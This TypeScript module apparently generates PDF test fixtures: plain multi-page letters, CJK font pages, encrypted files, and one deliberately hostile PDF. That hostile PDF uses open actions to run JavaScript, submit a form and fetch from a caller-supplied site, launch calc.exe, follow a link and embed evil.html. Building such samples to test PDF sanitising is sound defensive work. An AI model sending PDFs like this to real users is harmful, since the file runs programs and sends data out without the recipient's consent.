/** Small PDFs of the tests' own making: letters of several pages, and such as mean harm. */

interface Made {
  /** Words of each page, line by line. */
  pages: string[][];
  /** More entries of the catalogue, of every page, and more objects (numbered from `first` on). */
  catalogue?: (first: number) => string;
  page?: (first: number) => string;
  objects?: string[];
  /** Each page shows the first of these objects as a picture too. */
  pictured?: boolean;
  /** A password that nobody has. */
  locked?: boolean;
}

const A4 = "[0 0 595 842]";

/** The bytes of a PDF. */
export function pdf({ pages, catalogue, page, objects = [], pictured = false, locked = false }: Made): Buffer {
  const first = 5 + 2 * pages.length;
  const kids = pages.map((_, at) => `${5 + 2 * at} 0 R`).join(" ");
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalogue?.(first) ?? ""} >>`,
    `<< /Type /Pages /Kids [${kids}] /Count ${pages.length} >>`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    "<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>",
  ];
  pages.forEach((lines, at) => {
    const picture = pictured ? `/XObject << /I ${first} 0 R >>` : "";
    const resources = `/Resources << /Font << /F1 3 0 R /F2 4 0 R >> ${picture} >>`;
    all.push(`<< /Type /Page /Parent 2 0 R /MediaBox ${A4} ${resources} /Contents ${6 + 2 * at} 0 R ${page?.(first) ?? ""} >>`);
    const drawn = pictured ? "\nq 200 0 0 200 60 60 cm /I Do Q" : "";
    all.push(stream((lines.length ? `BT /F1 12 Tf 15 TL 60 780 Td ${lines.map((line) => `(${escaped(line)}) '`).join("\n")} ET` : "0.9 g 60 60 400 400 re f") + drawn));
  });
  return written([...all, ...objects], locked);
}

/** A stream with its length. */
export function stream(content: string, entries = ""): string {
  return `<< ${entries} /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

function escaped(line: string): string {
  return line.replace(/[\\()]/g, "\\$&");
}

function written(objects: string[], locked: boolean): Buffer {
  let text = "%PDF-1.7\n";
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const start = text.length;
  const line = (place: number) => `${String(place).padStart(10, "0")} 00000 n \n`;
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.map(line).join("")}`;
  const key = "<" + "5a".repeat(32) + ">";
  const lock = locked ? `/Encrypt << /Filter /Standard /V 1 /R 2 /O ${key} /U ${key} /P -44 >> /ID [<00> <00>]` : "";
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${lock} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

/** The same words in a font that is not in the file, and whose characters are named as one script does it (ISO 32000-1, 9.7.5.2). */
export const scripts = [
  { name: "Chinese, simplified", font: "STSong-Light", map: "UniGB-UCS2-H", of: "GB1", words: "你好，下次预约" },
  { name: "Chinese, traditional", font: "MSung-Light", map: "UniCNS-UCS2-H", of: "CNS1", words: "你好下次預約" },
  { name: "Japanese", font: "HeiseiMin-W3", map: "UniJIS-UCS2-H", of: "Japan1", words: "こんにちは次の予約" },
  { name: "Korean", font: "HYSMyeongJo-Medium", map: "UniKS-UCS2-H", of: "Korea1", words: "안녕하세요" },
] as const;

/** A page in one of them. */
export function inScript({ font, map, of, words }: (typeof scripts)[number]): Buffer {
  const signs = [...words].map((sign) => sign.charCodeAt(0).toString(16).padStart(4, "0")).join("");
  return written(
    [
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [5 0 R] /Count 1 >>",
      `<< /Type /Font /Subtype /Type0 /BaseFont /${font} /Encoding /${map} /DescendantFonts [4 0 R] >>`,
      `<< /Type /Font /Subtype /CIDFontType0 /BaseFont /${font} /CIDSystemInfo << /Registry (Adobe) /Ordering (${of}) /Supplement 2 >> /DW 1000 /FontDescriptor 7 0 R >>`,
      `<< /Type /Page /Parent 2 0 R /MediaBox ${A4} /Resources << /Font << /F1 3 0 R >> >> /Contents 6 0 R >>`,
      stream(`BT /F1 24 Tf 60 700 Td <${signs}> Tj ET`),
      `<< /Type /FontDescriptor /FontName /${font} /Flags 4 /FontBBox [0 -200 1000 900] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>`,
    ],
    false,
  );
}

/** A letter of so many pages, with words of its own on each. */
export function letter(pages: number): Buffer {
  const words = (at: number) => [
    `Dear Asha, this is side ${at + 1}.`,
    ...Array.from({ length: 30 }, (_, line) => `Line ${line + 1}: we talked about sleep, medicine and the allotment.`),
  ];
  return pdf({ pages: Array.from({ length: pages }, (_, at) => words(at)) });
}

/** Asks to run scripts, to start a program, to send a form, to open a page, and to fetch a file. */
export function hostile(site: string): Buffer {
  const script = `app.alert\\(1\\); this.submitForm\\("${site}/js"\\); fetch\\("${site}/fetched"\\)`;
  const action = (kind: string) => `<< /S /${kind}`;
  return pdf({
    pages: [["A letter that means harm."]],
    catalogue: (first) =>
      `/OpenAction ${first} 0 R /AA << /WC ${first} 0 R >> /AcroForm << /Fields [${first + 2} 0 R] /NeedAppearances true >> ` +
      `/Names << /JavaScript << /Names [(a) ${first} 0 R] >> /EmbeddedFiles << /Names [(evil.html) ${first + 3} 0 R] >> >>`,
    page: (first) => `/AA << /O ${first} 0 R >> /Annots [${first + 1} 0 R ${first + 2} 0 R]`,
    objects: [
      `${action("JavaScript")} /JS (${script}) /Next ${action("Launch")} /F (calc.exe) >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [60 700 300 800] /A ${action("URI")} /URI (${site}/link) >> >>`,
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (who) /TU (Your name) /V (Asha of the form) /Rect [60 600 300 620] ` +
        `/AA << /K ${action("JavaScript")} /JS (${script}) >> >> /A ${action("SubmitForm")} /F (${site}/form) >> >>`,
      `<< /Type /Filespec /F (evil.html) /EF << /F << >> >> >>`,
    ],
  });
}
